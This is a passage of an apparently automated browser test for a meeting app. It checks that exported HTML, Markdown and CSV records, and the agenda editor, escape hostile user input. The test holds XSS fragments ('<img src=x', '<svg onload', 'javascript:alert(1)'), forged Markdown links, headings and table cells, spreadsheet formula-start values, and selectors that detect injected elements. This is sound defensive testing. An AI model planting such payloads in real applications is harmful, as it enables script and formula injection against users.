    for (const raw of ['<img src=x', '<script>window', '<svg onload', '</textarea><img']) assert.ok(!html.includes(raw), `${label}: ${raw} unescaped in the HTML`);
    const context = await room.browser.newContext({ ...CONSOLE, extraHTTPHeaders: { Authorization: `Bearer ${key}` } });
    await context.addInitScript(guard);
    const seen = watchContext(context);
    const served = await context.newPage();
    assert.equal((await served.goto(`${base}${path}`)).status(), 200);
    const bare = await context.newPage();
    await bare.setContent(html);
    for (const [page, how] of [[served, 'served'], [bare, 'without CSP']]) {
      for (const text of texts) await shows(page, 'body', text, `${label} (${how})`);
      assert.equal(await page.locator('script, [onerror], [onload], img[src="x"], a[href^="javascript:" i]').count(), 0, `${label} (${how}): elements from user text`);
      await assertClean(page, seen, `${label} (${how})`);
    }
    await context.close();
  };
  await exported(`/api/sessions/${id}/record.html`, rkey, [...userTexts, definition.title.en, frEdited.split('\n')[0]], 'record.html');
  await exported(`/api/sessions/${id}/record.html?lang=fr`, mkey, [H.svg, H.tpl, questions[4].text], 'record.html?lang=fr');
  await exported(`/api/sessions/${id}/roster/cards.html`, mkey, roster.flatMap(([n, o]) => [n, o]), 'roster/cards.html');

  // The minutes opened from the rapporteur page (a blob: page with the page's CSP).
  const [tab] = await Promise.all([rapporteur.context.waitForEvent('page'), r.click(tid('export-html'))]);
  await tab.waitForLoadState();
  await shows(tab, 'body', questions[1].text, 'minutes tab');
  await shows(tab, 'body', H.img, 'minutes tab');
  await assertClean(tab, rapporteur.seen, 'minutes tab');
  await tab.close();

  // record.md: Markdown-significant characters escaped; no link, tag, heading or table cell
  // from the room.
  for (const lang of ['', '?lang=fr']) {
    const res = await api(`/api/sessions/${id}/record.md${lang}`, rkey);
    assert.equal(res.status, 200);
    const md = await res.text();
    const label = `record.md${lang}`;
    assert.doesNotMatch(md, /(^|[^\\])\]\(javascript:/m, `${label}: a raw javascript: link`);
    assert.doesNotMatch(md, /(^|[^\\])<\/?(img|script|svg|textarea)\b/im, `${label}: a raw tag`);
    assert.doesNotMatch(md, /^\s*#+\s*Forged heading/m, `${label}: a heading from the room`);
    assert.doesNotMatch(md, /(^|[^\\])\| col /m, `${label}: a table cell from the room`);
    assert.ok(md.includes('\\[x\\](javascript:alert(1))'), `${label}: the link, escaped`);
    assert.ok(md.includes('\\| col \\|'), `${label}: the table, escaped`);
    assert.ok(md.includes('\\<script\\>'), `${label}: the tag, escaped`);
  }

  // results.csv: one row per poll; a title that would start a formula starts with `'`.
  const csvRes = await api(`/api/sessions/${id}/results.csv`, rkey);
  assert.equal(csvRes.status, 200);
  const rows = parseCsv(await csvRes.text());
  const iTitle = rows[0].indexOf('title');
  const iDraft = rows[0].indexOf('draft');
  const polls = rows.slice(1).filter((x) => x.length > 1);
  assert.equal(polls.length, 5);
  const titles = Object.fromEntries(polls.map((x) => [x[iDraft], x[iTitle]]));
  for (const row of polls) {
    for (const cell of row) assert.doesNotMatch(cell, FORMULA_START, `results.csv: a cell that starts a formula: ${cell}`);
  }
  assert.equal(titles.d2, `'${H.formula}`);
  assert.equal(titles.d3, `'${H.plus}`);
  assert.equal(titles.d4, `'${H.at}`);
  assert.equal(titles.d5, `'${H.minus}`);
  assert.ok(titles.d1.includes(H.img) && !FORMULA_START.test(titles.d1), titles.d1);

  // ---- The editor: the definition imported from a file (named with markup), then this
  // session, as its agenda now stands, loaded as a template.
  const editor = await room.browser.newContext({ ...CONSOLE, locale: 'en-GB' });
  await editor.addInitScript(guard);
  const edSeen = watchContext(editor);
  const e = await editor.newPage();
  await e.goto(`${base}/new`);
  await e.waitForSelector(tid('ed-item'));
  const fileName = `${H.img}.json`;
  await e.setInputFiles(tid('ed-import-file'), { name: fileName, mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(definition)) });
  await shows(e, tid('ed-toast'), fileName, 'editor import toast');
  await e.waitForFunction(() => !['checking', 'idle'].includes(document.querySelector('[data-testid="ed-status"]')?.dataset.state));
  await valueIs(e, '[data-path="title.en"]', definition.title.en);
  await valueIs(e, '[data-path="title.fr"]', definition.title.fr);
  await valueIs(e, tid('ed-reference'), H.formula);
  await valueIs(e, tid('ed-venue'), H.textarea);
  await valueIs(e, '[data-path="agenda[0].title"]', H.tpl);
  await valueIs(e, '[data-path="agenda[0].speakers[0]"]', H.img);
  await valueIs(e, '[data-path="agenda[1].title.fr"]', H.textarea);
  await valueIs(e, '[data-path="drafts[0].text.en"]', definition.drafts[0].text.en);
  await valueIs(e, '[data-path="drafts[1].text"]', definition.drafts[1].text);
  assert.deepEqual(await e.evaluate(() => window.__editor.definition().drafts[2].title), H.plus, 'the definition the form stands for');
  assert.equal(await e.textContent(tid('ed-status')), 'Ready to create', 'the server finds the definition fine');
  // (The blank form the editor opens with is checked too: the server's 400 is logged by Chromium.)
  const blankForm = /^error: Failed to load resource: the server responded with a status of 400/;
  await assertClean(e, edSeen, 'editor, imported', blankForm);
  await e.fill(tid('ed-template-link'), created.links.moderator);
  await e.click(tid('ed-template-load'));
  // (As the server keeps them now: in NFC.)
  await valueIs(e, '[data-path="title.en"]', nfc(definition.title.en));
  await valueIs(e, '[data-path="agenda[2].title.en"]', H.svg);
  await valueIs(e, '[data-path="agenda[0].title"]', `${H.textarea} ${H.jsUrl}`);
  await shows(e, tid('ed-toast'), nfc(definition.title.en).slice(0, 60), 'editor template toast');
  await assertClean(e, edSeen, 'editor, template', blankForm);
  await editor.close();

  for (const x of [moderator, rapporteur, phoneA, phoneB, screen]) await x.context.close();
});
